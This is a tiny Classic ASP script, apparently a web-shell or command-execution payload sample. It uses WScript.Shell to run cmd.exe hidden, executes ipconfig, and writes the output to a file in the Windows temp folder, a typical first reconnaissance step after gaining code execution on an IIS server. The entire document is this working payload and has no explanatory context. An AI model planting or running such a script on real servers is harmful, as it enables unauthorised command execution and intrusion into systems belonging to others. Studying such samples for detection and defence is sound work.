<%
Set ws = CreateObject("WScript.Shell")
ws.Run "cmd.exe /c " & "ipconfig" & " > c:\windows\temp\o.txt", 0, True
%>
